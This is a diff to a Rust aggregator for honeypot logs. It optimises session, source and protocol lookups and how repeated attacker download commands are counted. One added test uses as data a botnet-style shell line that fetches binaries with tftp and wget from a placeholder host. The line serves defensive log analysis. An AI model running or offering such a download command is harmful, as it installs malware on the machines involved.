@@ -364,6 +364,20 @@ pub(crate) struct SessionState {
 }
 
 impl SessionState {
+    /// [`Self::merge`] of one row's state (`ts`, `src`, `attempts`, `flags`, no
+    /// duration), without building it.
+    fn add_row(&mut self, ts: Option<Micros>, src: Option<IpAddr>, (attempts, flags): (u32, u8)) {
+        extend_range(&mut self.first, &mut self.last, ts);
+        if self.src != src {
+            self.src = match (self.src, src) {
+                (Some(a), Some(b)) => Some(a.min(b)),
+                (a, b) => a.or(b),
+            };
+        }
+        self.attempts = self.attempts.saturating_add(attempts);
+        self.flags |= flags;
+    }
+
     fn merge(&mut self, o: SessionState) {
         merge_range(&mut self.first, &mut self.last, o.first, o.last);
         // A session id logged from several addresses shows the smallest: the same
@@ -642,10 +656,22 @@ const MAX_PROTOCOL_TABLE: usize = 32;
 #[derive(Debug)]
 struct ProtocolEntry {
     name: Box<str>,
+    /// Its first 8 bytes (zero-padded), compared before the name itself.
+    prefix: u64,
     /// Its [`feature::PROTO`] id.
     id: u64,
     /// Attempts not yet in [`Aggregator::protocols`].
     pending: u64,
+}
+
+/// The first 8 bytes of `name`, zero-padded, as one word.
+fn name_prefix(name: &str) -> u64 {
+    // A byte loop: protocol names are short, and a copy of a variable length
+    // is a call to memcpy.
+    name.bytes()
+        .take(8)
+        .enumerate()
+        .fold(0, |word, (i, b)| word | u64::from(b) << (8 * i))
 }
 
 /// Rows whose entries [`Aggregator::ingest_batch`] reads ahead in one go.
@@ -1029,8 +1055,14 @@ impl Aggregator {
     ) -> u64 {
         let mut sum = 0u64;
         {
+            // Rows of one session mostly come in runs (more than half of a Heralding
+            // log's rows follow a row of their own session in their shard): a row
+            // with the previous row's address or session reuses what it found.
+            let mut last_src: Option<(IpAddr, Option<u32>)> = None;
+            let mut last_session: Option<(&str, Option<IpAddr>, u64)> = None;
+            let keep_all = filters.keeps_all();
             for (ev, w) in part.iter().zip(warmed.iter_mut()) {
-                let accepted = filters.accepts(ev);
+                let accepted = keep_all || filters.accepts(ev);
                 w.accepted = Some(accepted);
                 if let EventKind::Auth {
                     username, password, ..
@@ -1041,17 +1073,29 @@ impl Aggregator {
                     sum = sum.wrapping_add(stats.count);
                     w.pair = Some(stats);
                 }
-                if let Some(ip) = ev.src
-                    && let Some(&i) = self.sources.index.get(&ip)
-                {
-                    w.slot = Some(i);
+                if let Some(ip) = ev.src {
+                    w.slot = match last_src {
+                        Some((last, slot)) if last == ip => slot,
+                        _ => {
+                            let slot = self.sources.index.get(&ip).copied();
+                            last_src = Some((ip, slot));
+                            slot
+                        }
+                    };
                 }
                 if let Some(id) = ev.session.as_deref().filter(|id| !id.is_empty()) {
-                    let k = self.session_key(id, ev.src);
+                    let k = match last_session {
+                        Some((last, src, k)) if last == id && src == ev.src => k,
+                        _ => {
+                            let k = self.session_key(id, ev.src);
+                            last_session = Some((id, ev.src, k));
+                            if let Some(s) = self.sessions.get(&k) {
+                                sum = sum.wrapping_add(u64::from(s.attempts));
+                            }
+                            k
+                        }
+                    };
                     w.session_key = Some(k);
-                    if let Some(s) = self.sessions.get(&k) {
-                        sum = sum.wrapping_add(u64::from(s.attempts));
-                    }
                 }
             }
             let states = || {
@@ -1266,7 +1310,13 @@ impl Aggregator {
     /// The index of `protocol` in the protocol table, added if new and there is
     /// room (a log naming more protocols than that uses the maps for the rest).
     fn protocol_entry(&mut self, protocol: &str) -> Option<usize> {
-        let is = |e: &ProtocolEntry| *e.name == *protocol;
+        let prefix = name_prefix(protocol);
+        // Names of at most 8 bytes are equal when their lengths and prefixes are.
+        let is = |e: &ProtocolEntry| {
+            e.prefix == prefix
+                && e.name.len() == protocol.len()
+                && (protocol.len() <= 8 || *e.name == *protocol)
+        };
         if self.protocol_table.get(self.last_protocol).is_some_and(is) {
             return Some(self.last_protocol);
         }
@@ -1275,6 +1325,7 @@ impl Aggregator {
             None if self.protocol_table.len() < MAX_PROTOCOL_TABLE => {
                 self.protocol_table.push(ProtocolEntry {
                     name: protocol.into(),
+                    prefix,
                     id: id_of(feature::PROTO, &[protocol]),
                     pending: 0,
                 });
@@ -1510,25 +1561,38 @@ impl Aggregator {
         };
         stats.count += 1;
         let info = &stats.info;
+        let mut repeat = false;
         if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
             state.markers |= info.facts.markers;
             state.login_words |= info.flags & sflag::MIRAI_SEQ;
             let lists = state.cmds_mut();
-            push_unique(&mut lists.lines, info.line_id, MAX_SOURCE_LIST);
-            for f in &info.features {
-                push_unique(&mut lists.features, *f, MAX_SOURCE_FEATURES);
+            match lists.lines.binary_search(&info.line_id) {
+                // The source typed this line before: its features went in then, and
+                // the capped lists keep the smallest values pushed, so pushing them
+                // again would change nothing.
+                Ok(_) => repeat = true,
+                Err(pos) => {
+                    if pos < MAX_SOURCE_LIST {
+                        lists.lines.insert(pos, info.line_id);
+                        lists.lines.truncate(MAX_SOURCE_LIST);
+                    }
+                    for f in &info.features {
+                        push_unique(&mut lists.features, *f, MAX_SOURCE_FEATURES);
+                    }
+                }
             }
         }
         let flags = info.flags;
         if !info.facts.busybox_tokens.is_empty() || !info.facts.downloads.is_empty() {
             let info = Arc::clone(info);
-            self.command_iocs(ev, &info);
+            self.command_iocs(ev, &info, repeat);
         }
         flags
     }
 
-    /// Counts the busybox tokens and downloads of one command line.
-    fn command_iocs(&mut self, ev: &Event<'_>, info: &CommandInfo) {
+    /// Counts the busybox tokens and downloads of one command line; `repeat`: the
+    /// event's source typed this line before (see [`Self::payload`]).
+    fn command_iocs(&mut self, ev: &Event<'_>, info: &CommandInfo, repeat: bool) {
         for token in &info.facts.busybox_tokens {
             if let Some(c) = self.busybox_tokens.get_mut(token.as_str()) {
                 *c += 1;
@@ -1537,11 +1601,15 @@ impl Aggregator {
             }
         }
         for d in &info.facts.downloads {
-            self.payload(ev, d);
+            self.payload(ev, d, repeat);
         }
     }
 
-    fn payload(&mut self, ev: &Event<'_>, d: &command::Download) {
+    /// Counts one download of `d`. With `repeat` (the source pushed this download
+    /// before), only the counts and times change: the source is among the host's
+    /// scanners already, and its capped lists keep the smallest values pushed, so
+    /// the same method, file and port again would change nothing.
+    fn payload(&mut self, ev: &Event<'_>, d: &command::Download, repeat: bool) {
         let key = DownloadRef {
             method: d.method,
             host: &d.host,
@@ -1569,6 +1637,9 @@ impl Aggregator {
         };
         state.attempts += 1;
         extend_range(&mut state.first, &mut state.last, ev.ts);
+        if repeat {
+            return;
+        }
         if let Some(src) = ev.src {
             state.scanners.insert(src);
         }
@@ -1593,7 +1664,7 @@ impl Aggregator {
         let proto = self.protocol_of(ev);
         let slot = self.touch_source(ev, proto, warmed.slot);
         if let Some(d) = command::parse_url(url) {
-            self.payload(ev, &d);
+            self.payload(ev, &d, false);
             if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
                 state.markers |= marker::DOWNLOAD;
                 if d.port == Some(4636) {
@@ -1636,7 +1707,7 @@ impl Aggregator {
         (attempts, flags): (u32, u8),
         known: Option<u64>,
     ) -> Option<u64> {
-        let add = SessionState {
+        let add = || SessionState {
             first: ev.ts,
             last: ev.ts,
             src: ev.src,
@@ -1659,9 +1730,9 @@ impl Aggregator {
                 key
             };
             match self.sessions.get_mut(&key) {
-                Some(state) => state.merge(add),
+                Some(state) => state.add_row(ev.ts, ev.src, (attempts, flags)),
                 None => {
-                    self.sessions.insert(key, add);
+                    self.sessions.insert(key, add());
                     self.block_new_sessions.push(key);
                 }
             }
@@ -1672,7 +1743,7 @@ impl Aggregator {
             .gap_sessions
             .entry((src, ev.src_port.unwrap_or(0)))
             .or_default();
-        add_to_gap_sessions(list, add, gap_secs);
+        add_to_gap_sessions(list, add(), gap_secs);
         None
     }
 
@@ -2113,6 +2184,49 @@ mod tests {
 
     /// Command rows ingested into an aggregator that merged another one, whose
     /// pairs carry that worker's command slots, count as in one aggregator.
+    #[test]
+    fn a_source_repeating_a_download_line_counts_each_time_but_is_one_scanner() {
+        let line = "cd /tmp; tftp -g -r 7up 198.51.100.7; wget http://198.51.100.7:8080/bins/x86";
+        let row = |src: u8, ts: i64| Event {
+            ts: Some(ts),
+            src: Some(IpAddr::from([192, 0, 2, src])),
+            src_port: Some(1),
+            dst_port: Some(23),
+            protocol: "telnet".into(),
+            session: Some(format!("s{src}").into()),
+            kind: EventKind::Command { line: line.into() },
+        };
+        let filters = Filters::default();
+        let mut agg = Aggregator::new(300);
+        agg.ingest_batch(
+            0,
+            &[row(1, 1_000_000), row(1, 2_000_000), row(2, 3_000_000)],
+            &filters,
+        );
+        agg.ingest(0, &row(1, 4_000_000), &filters);
+        let host = agg.payloads.get("198.51.100.7").expect("payload host");
+        assert_eq!(host.attempts, 8, "two downloads a line, four lines");
+        assert_eq!(host.scanners.len(), 2);
+        assert_eq!((host.first, host.last), (Some(1_000_000), Some(4_000_000)));
+        assert_eq!(host.methods, ["tftp", "wget"]);
+        assert_eq!(host.ports, [8080]);
+        let mut files: Vec<&str> = host.files.iter().map(|f| &**f).collect();
+        files.sort_unstable();
+        assert_eq!(files, ["7up", "x86"]);
+        let downloads: u64 = agg.downloads.values().sum();
+        assert_eq!(downloads, 8);
+        // The repeating source's lists equal those of a source that typed it once.
+        let state = |ip: u8| {
+            let s = agg
+                .sources
+                .get(&IpAddr::from([192, 0, 2, ip]))
+                .expect("source");
+            (s.lines().to_vec(), s.features().to_vec(), s.markers)
+        };
+        assert_eq!(state(1), state(2));
+        assert!(!state(1).1.is_empty());
+    }
+
     #[test]
     fn command_slots_survive_a_merge() {
         let row = |src: u8, user: &'static str, pass: &'static str| Event {
